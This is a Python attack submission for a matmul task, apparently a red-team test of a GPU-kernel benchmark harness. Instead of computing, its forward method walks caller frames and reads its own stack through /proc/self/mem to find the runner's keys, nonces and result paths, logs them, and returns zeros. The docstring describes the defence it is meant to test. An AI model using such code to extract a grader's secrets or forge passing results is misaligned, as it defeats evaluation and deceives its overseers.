"""Attack PG-stack_sig_scan (task matmul): follow the pointers on the
candidate's own stacks, and its callers' Python frames, to the runner's
secrets, then forge its answers with them.

Adapts: gpu-mode/pygpubench exploits/submission_stack_sig_scan.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the signature hides in an anonymous page at a
random offset; the submission scans [stack] for pointer-sized values that
point into readable anonymous memory, checks the 32 bytes behind each for a
hex signature, finds the result pipe by walking the Python call stack and
writes a forged, authenticated result.

What it does: on every call (the first 25), walks its callers' Python
frames (runner/kaudit_party.py's) and records every local that is a
request or looks like a secret of the audit (a "key", "nonce" or "seed", a
path under the runner's directory); scans its native [stack] for 8-byte
values pointing into readable private memory and reads 64 bytes behind
each through /proc/self/mem, looking for hex strings of 16 or more digits
and the runner's names (-ref.kt, plan.json, events.jsonl).  What it finds
goes to work/attack-stack-sig-scan.marker.  Any path of the runner it
finds, it tries to read.  It returns zeros (it has no answer of its own).

What it exploits (in pygpubench): the harness's secret and its result
channel are reachable from the submission's stack.

What a correct defence must do: nothing on the candidate's stacks or in its
frames that names the reference's answers or a secret that vouches for a
result (the sampling key comes only after the call, the seed never), so
that this candidate's zeros are not semantic PASS.
"""
import os
import re
import struct
import sys

import torch
import torch.nn as nn

_HEX = re.compile(rb"[0-9a-f]{16,64}")
_NAMES = re.compile(rb"-ref\.kt|plan\.json|events\.jsonl")
_state = {"calls": 0}


def _note(s):
    try:
        with open("attack-stack-sig-scan.marker", "a") as f:
            f.write(s + "\n")
    except OSError:
        pass


def _frames():
    found = []
    f = sys._getframe(2)
    while f is not None:
        for k, v in list(f.f_locals.items()):
            if isinstance(v, dict) and ("op" in v or "key" in v or "nonce" in v):
                found.append("%s.%s=%r" % (f.f_code.co_name, k, {x: v[x] for x in list(v)[:8]}))
            elif k in ("key", "nonce", "seed") or (isinstance(v, str) and "runner" in v):
                found.append("%s.%s=%r" % (f.f_code.co_name, k, v))
        f = f.f_back
    return found


def _stack():
    regions, stack = [], None
    with open("/proc/self/maps") as f:
        for line in f:
            p = line.split()
            lo, hi = (int(x, 16) for x in p[0].split("-"))
            if len(p) > 5 and p[5] == "[stack]":
                stack = (lo, hi)
            elif "r" in p[1] and p[1][3] == "p" and (len(p) < 6 or p[5] == "[heap]"):
                regions.append((lo, hi))
    hits = set()
    if stack is None:
        return hits
    fd = os.open("/proc/self/mem", os.O_RDONLY)
    try:
        data = os.pread(fd, min(stack[1] - stack[0], 1 << 20), stack[1] - min(stack[1] - stack[0], 1 << 20))
        for (v,) in struct.iter_unpack("<Q", data[:len(data) // 8 * 8]):
            if any(lo <= v < hi for lo, hi in regions):
                try:
                    blob = os.pread(fd, 64, v)
                except OSError:
                    continue
                for m in list(_HEX.finditer(blob)) + list(_NAMES.finditer(blob)):
                    hits.add(blob.decode("latin-1"))
    finally:
        os.close(fd)
    return hits


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        _state["calls"] += 1
        if _state["calls"] <= 25:
            try:
                fr = _frames()
                st = _stack()
                _note("call %d: frames %s; stack strings %d: %r" % (_state["calls"], fr[:6], len(st),
                                                                   sorted(st)[:5]))
                for s in fr + sorted(st):
                    for p in re.findall(r"(/[\x21-\x7e]+?(?:-ref\.kt|plan\.json|events\.jsonl))", s):
                        try:
                            open(p, "rb").close()
                            _note("read %s: ok" % p)
                        except OSError as exc:
                            _note("read %s: %s" % (p, exc.strerror))
            except Exception as exc:
                _note("call %d: scan failed: %r" % (_state["calls"], exc))
        return torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype, device=a.device)
